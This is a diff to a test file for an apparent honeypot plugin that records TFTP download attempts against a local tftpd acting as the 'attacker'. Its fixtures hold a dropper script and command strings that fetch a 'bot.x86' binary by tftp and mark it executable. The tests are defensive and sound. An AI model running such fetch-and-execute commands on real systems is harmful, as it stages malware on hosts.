@@ -1,7 +1,7 @@
 // Tests for tftp-download, run by `honeytrap-plugin test` with node:test. The
 // plugin runs in the daemon's own worker engine and fetches through the
 // daemon's own network broker (allowPrivateNetwork) from a real tftpd-hpa
-// (in.tftpd) this file starts on 127.0.0.3:69, the "attacker".
+// (in.tftpd) this file starts on port 69 of a loopback address, the "attacker".
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
@@ -14,11 +14,12 @@ import { fileURLToPath } from 'node:url';
 import { attackFixture, loadPlugin } from '@honeytrap/sdk';
 
 const dir = fileURLToPath(new URL('..', import.meta.url));
-const ATTACKER = '127.0.0.3';
+/** A loopback address of its own, so that two runs of these tests do not meet on the same port. */
+const ATTACKER = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 256)}.${2 + Math.floor(Math.random() * 250)}`;
 
 /** The first 64 KiB of the node binary: a real x86-64 ELF. */
 const BOT = readFileSync(process.execPath).subarray(0, 65536);
-const SCRIPT = Buffer.from('#!/bin/sh\ntftp -g -r bot.x86 127.0.0.3\nchmod +x bot.x86\n');
+const SCRIPT = Buffer.from(`#!/bin/sh\ntftp -g -r bot.x86 ${ATTACKER}\nchmod +x bot.x86\n`);
 
 const root = mkdtempSync(join(tmpdir(), 'tftp-download-'));
 let tftpd;
@@ -117,7 +118,7 @@ test('the spellings: -l LOCAL, clustered -gr with a port, -l only, tftp-hpa -c g
 });
 
 test('failures are recorded: no server on the port, a host that is not the attacker', async () => {
-  const received = [`tftp -g -r bot.x86 ${ATTACKER} 6999`, 'tftp -g -r bot.x86 127.0.0.4'].join(
+  const received = [`tftp -g -r bot.x86 ${ATTACKER} 6999`, 'tftp -g -r bot.x86 127.0.0.1'].join(
     ';',
   );
   const out = await run(received, { config: { timeoutMs: 1500 } });
@@ -125,7 +126,7 @@ test('failures are recorded: no server on the port, a host that is not the attac
   assert.equal(noServer.value, `tftp://${ATTACKER}:6999/bot.x86`);
   assert.equal(noServer.meta.status, 'failed');
   assert.equal(noServer.meta.errorCode, 'HT_PLUGIN_NETWORK');
-  assert.equal(other.value, 'tftp://127.0.0.4/bot.x86');
+  assert.equal(other.value, 'tftp://127.0.0.1/bot.x86');
   assert.equal(other.meta.status, 'refused');
   assert.equal(other.meta.errorCode, 'HT_PLUGIN_DENIED');
   assert.deepEqual(out.artifacts, []);
